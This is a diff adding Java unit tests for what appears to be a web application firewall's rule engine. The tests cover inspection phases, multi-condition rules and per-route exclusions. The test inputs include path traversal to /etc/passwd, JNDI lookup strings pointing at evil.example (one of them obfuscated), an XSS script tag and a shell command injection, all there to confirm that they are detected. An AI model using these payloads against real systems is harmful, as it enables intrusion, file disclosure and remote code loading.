@@ -126,6 +126,81 @@ class RuleEngineTest {
     }
 
     @Test
+    void beforeMatchingEveryRequestIsInspectedAndAfterMatchingOnlyWhatMatchingAdds() {
+        RuleEngine engine = engine("palisade.rules.block", "high");
+        // An unrouted probe: inspected before any resource is matched.
+        RequestRecord probe = request("/no/such/page", "192.0.2.1", "QUERY", "file", "../../../../etc/passwd");
+        assertThat(engine.inspectBeforeMatching(probe)).isNotNull().extracting(Detection::ruleId)
+                .isEqualTo("path-traversal-exploit");
+
+        // A heuristic on a query parameter is reported before matching, and not again after it.
+        RequestRecord record = request("/api/books/search", "192.0.2.1", "QUERY", "q", HEURISTIC_XSS);
+        assertThat(engine.inspectBeforeMatching(record)).isNull();
+        assertThat(record.detections()).singleElement().extracting(Detection::ruleId).isEqualTo("xss-request");
+        record.bind(InputSource.QUERY, "q", List.of(HEURISTIC_XSS)); // what matching does for a bound parameter
+        record.addBoundInput(InputSource.JSON, "bio", "${jndi:ldap://evil.example/a}");
+        Detection after = engine.inspectMatched(record);
+        assertThat(after).as("what matching added is inspected").isNotNull().extracting(Detection::ruleId)
+                .isEqualTo("jndi-lookup");
+        assertThat(record.detections()).extracting(Detection::ruleId).containsExactly("xss-request", "jndi-lookup");
+    }
+
+    @Test
+    void aRuleWithSeveralConditionsCompletesAcrossThePhases() throws RulePackException {
+        RuleEngine engine = engine();
+        engine.apply("""
+                {"format": "palisade-rules/1", "version": "v", "rules": [
+                  {"id": "admin-form", "attack_type": "policy", "conditions": [
+                    {"inputs": ["uri"], "operator": "regex", "value": "^/admin"},
+                    {"inputs": ["form:role"], "operator": "equals", "value": ["root"]}]}
+                ]}""", "test");
+        RequestRecord record = request("/admin/users", "192.0.2.1", "HEADER", "Accept", "*/*");
+        assertThat(engine.inspectBeforeMatching(record)).isNull();
+        record.addBoundInput(InputSource.FORM, "role", "root");
+        assertThat(engine.inspectMatched(record)).as("the URI matched before, the form field after").isNotNull()
+                .extracting(Detection::ruleId).isEqualTo("admin-form");
+        RequestRecord other = request("/public", "192.0.2.1");
+        engine.inspectBeforeMatching(other);
+        other.addBoundInput(InputSource.FORM, "role", "root");
+        assertThat(engine.inspectMatched(other)).isNull();
+    }
+
+    @Test
+    void anExclusionSwitchesOneRuleOffForOneInputOnOneRoute() throws RulePackException {
+        RuleEngine engine = engine();
+        engine.apply("""
+                {"format": "palisade-rules/1", "version": "v", "rules": [], "exclusions": [
+                  {"rule": "xss-request", "input": "json:bio", "path": "/api/profile",
+                   "reason": "profiles hold HTML the page sanitises"},
+                  {"rule": "command-injection", "input": "query:q", "path": "/api/docs/*"}
+                ]}""", "test");
+        RequestRecord bio = request("/api/profile", "192.0.2.1", "JSON", "bio", HEURISTIC_XSS);
+        assertThat(engine.inspectRequest(bio)).isNull();
+        assertThat(bio.detections()).isEmpty();
+        assertThat(engine.inspectRequest(request("/api/profile", "192.0.2.1", "JSON", "name", HEURISTIC_XSS)))
+                .as("another input on the same route").isNotNull();
+        assertThat(engine.inspectRequest(request("/api/other", "192.0.2.1", "JSON", "bio", HEURISTIC_XSS)))
+                .as("the same input on another route").isNotNull();
+        assertThat(engine.inspectRequest(request("/api/profile", "192.0.2.1", "JSON", "bio", "<script>alert(1)</script>")))
+                .as("the other rules still look at it").isNotNull().extracting(Detection::ruleId).isEqualTo("xss-exploit");
+        assertThat(engine.inspectRequest(request("/api/docs/shell", "192.0.2.1", "QUERY", "q", "x; ls -la /tmp"))).isNull();
+        assertThat(engine.inspectRequest(request("/api/doc", "192.0.2.1", "QUERY", "q", "x; ls -la /tmp"))).isNotNull();
+
+        for (String[] bad : new String[][] {
+            {"{\"rule\": \"no-such-rule\", \"input\": \"query:q\", \"path\": \"/\"}", "which is not in force"},
+            {"{\"rule\": \"sqli-structure\", \"input\": \"query:q\", \"path\": \"/\"}", "takes no exclusions"},
+            {"{\"rule\": \"xss-request\", \"input\": \"query:q\", \"path\": \"api\"}", "\"path\" is required"},
+            {"{\"rule\": \"xss-request\", \"input\": \"method\", \"path\": \"/\"}", "must be an input"},
+            {"{\"rule\": \"xss-request\", \"path\": \"/\"}", "\"input\" is required"},
+            {"{\"rule\": \"xss-request\", \"input\": \"query\", \"path\": \"/\", \"route\": 1}", "route"}}) {
+            assertThatThrownBy(() -> engine.apply("{\"format\": \"palisade-rules/1\", \"version\": \"w\", \"rules\": [],"
+                    + " \"exclusions\": [" + bad[0] + "]}", "test")).as(bad[0]).isInstanceOf(RulePackException.class)
+                    .hasMessageContaining(bad[1]);
+        }
+        assertThat(engine.rules().version()).as("the good pack stays").endsWith("+v");
+    }
+
+    @Test
     void jndiLookupsAreBlockedInAnyInputPlainOrObfuscated() {
         RuleEngine engine = engine();
         for (String lookup : List.of("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}",
